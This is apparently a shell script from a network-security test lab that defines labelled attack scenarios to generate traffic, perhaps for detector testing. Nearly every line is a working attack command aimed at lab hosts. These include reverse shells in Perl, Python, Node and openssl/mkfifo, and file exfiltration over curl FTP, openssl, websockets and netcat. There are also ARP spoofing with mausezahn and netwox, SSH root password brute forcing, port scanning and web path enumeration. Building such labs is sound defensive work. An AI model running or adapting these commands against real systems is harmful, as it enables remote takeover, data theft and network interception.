lan hping_file dns-tunnel desk2 $BOSS; hping_file() { on 40 hping3 -q --icmp -d 400 -c 40 -i u200000 --file "$(secret 30000)" --sign msg $BOSS; }
lan ws_shell c2-beacon desk $BOSS; ws_shell() { ns_start boss env NODE_PATH="$ARMORY_NPM/node_modules" node -e 'const W=require("ws");new W.Server({port:9100}).on("connection",s=>setInterval(()=>s.send("id; ls -l /etc | head -20"),5000))'; sleep 2; NODE_PATH=$ARMORY_NPM/node_modules on 60 node -e 'const W=require("ws");const s=new W("ws://192.0.2.200:9100");s.on("message",c=>require("child_process").exec(String(c),(e,o)=>s.send(o)))'; }
lan wget_poll c2-beacon desk2 $BOSS; wget_poll() { on 130 bash -c 'for i in $(seq 25); do wget2 -q -O - http://192.0.2.200:8000/plain-$i.txt; sleep 5; done'; }
lan python_tls c2-beacon desk $BOSS; python_tls() { hears "openssl s_server -quiet -accept 4443 -cert $LAB_DIR/boss.crt -key $LAB_DIR/boss.key" /usr/bin/python3 -c 'import socket,ssl,subprocess
c=ssl._create_unverified_context(); s=c.wrap_socket(socket.create_connection(("192.0.2.200",4443)))
while (d:=s.recv(4096)): s.sendall(subprocess.run(d.decode(),shell=True,capture_output=True).stdout or b"-")'; }
lan ftp_elf malware desk $BOSS; ftp_elf() { on 20 curl -s -m 15 -o "$LAB_DIR/got" ftp://$BOSS/x86; }
lan wget_jpg malware desk2 $BOSS; wget_jpg() { cp /bin/cat "$LAB_DIR/serve/logo.jpg"; on 20 wget2 -q -O "$LAB_DIR/got" http://$BOSS:8000/logo.jpg; }
lan curl_ftp_up exfiltration desk $BOSS '' 400; curl_ftp_up() { on 60 curl -s -T "$(secret 15000000)" ftp://$BOSS/up/dump.zip; }
lan openssl_up exfiltration desk2 $BOSS '' 400; openssl_up() { on 60 bash -c 'openssl s_client -quiet -connect 192.0.2.200:9003 <"$0"' "$(secret 15000000)"; }
lan ws_up exfiltration desk $BOSS '' 400; ws_up() { ns_start boss env NODE_PATH="$ARMORY_NPM/node_modules" node -e 'const W=require("ws");new W.Server({port:9101,maxPayload:1e8}).on("connection",s=>s.on("message",()=>{}))'; sleep 2; NODE_PATH=$ARMORY_NPM/node_modules on 60 node -e 'const W=require("ws"),f=require("fs").readFileSync(process.argv[1]);const s=new W("ws://192.0.2.200:9101");s.on("open",()=>{for(let i=0;i<f.length;i+=500000)s.send(f.subarray(i,i+500000));setTimeout(()=>process.exit(),3000)})' "$(secret 15000000)"; }
lan mausezahn_garp arp-spoof rogue 172.20.9.1 $ROGUE_MAC; mausezahn_garp() { on 25 mausezahn eth0 -c 20 -d 1s -t arp "request, sendermac=$ROGUE_MAC, senderip=172.20.9.1, targetmac=ff:ff:ff:ff:ff:ff, targetip=172.20.9.1"; }
lan netwox_mitm arp-spoof rogue 172.20.9.32 $ROGUE_MAC; netwox_mitm() { on 30 bash -c 'for i in 1 2 3 4 5 6 7 8 9 10 11 12; do netwox 33 -d eth0 -a 02:00:5e:00:3e:4d -b 02:00:5e:00:3e:52 -c 2054 -e 2 -f 02:00:5e:00:3e:4d -g 172.20.9.1 -h 02:00:5e:00:3e:52 -i 172.20.9.32; netwox 33 -d eth0 -a 02:00:5e:00:3e:4d -b 02:00:5e:00:3e:01 -c 2054 -e 2 -f 02:00:5e:00:3e:4d -g 172.20.9.32 -h 02:00:5e:00:3e:01 -i 172.20.9.1; sleep 1; done'; }

# --- The same with patience, behind TLS and by IPv6.
out evilscan_one port-scan bad $BASTION; evilscan_one() { on 60 "$BIN/evilscan" $BASTION --port=1-60 --concurrency=1 --timeout=500 --status=TROU; }
out ssh2_patient brute-force bad2 $BASTION; ssh2_patient() { on 100 node -e "const {Client}=require('$ARMORY_NPM/node_modules/ssh2'); let i=0; (function next(){ if(i++>15) return; const c=new Client(); c.on('ready',()=>c.end()).on('error',()=>{}).on('close',()=>setTimeout(next,4000)).connect({host:'$BASTION',username:'root',password:'winter'+i}); })()"; }
out httpie_paths web-attack bad $WWW; httpie_paths() { on 80 bash -c 'while read -r w; do http --ignore-stdin --timeout 3 -h "http://$1/$w.php"; sleep 0.4; done <"$0"' "$(paths 60)" $WWW; }
out wget_paths_tls web-attack bad2 $WWW; wget_paths_tls() { sed "s#.*#https://$WWW/&.php#" "$(paths 250)" >"$LAB_DIR/urls"; on 60 wget2 -q --no-check-certificate --tries=1 -O /dev/null -i "$LAB_DIR/urls"; }
lan openssl_named c2-beacon desk $BOSS; openssl_named() { hears "openssl s_server -quiet -accept 8443 -cert $LAB_DIR/boss.crt -key $LAB_DIR/boss.key" bash -c 'f=$(mktemp -u); mkfifo $f; sh -i <$f 2>&1 | openssl s_client -quiet -servername cdn.example -connect 192.0.2.200:8443 >$f 2>/dev/null; rm $f'; }
lan netcat_patient exfiltration desk2 $BOSS '' 400; netcat_patient() { on 90 bash -c 'pv -q -L 140000 "$0" | nc.openbsd -n -N 192.0.2.200 9001' "$(secret 9000000)"; }
lan perl_patient c2-beacon desk2 $BOSS; perl_patient() { N=2; orders 2 7 | timeout 100 ip netns exec "$LAB_NS-boss" nc.openbsd -n -l -p 4702 >/dev/null 2>&1 & sleep 1; on 95 perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4702,inet_aton("192.0.2.200")));open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh");'; wait_for_jobs; }
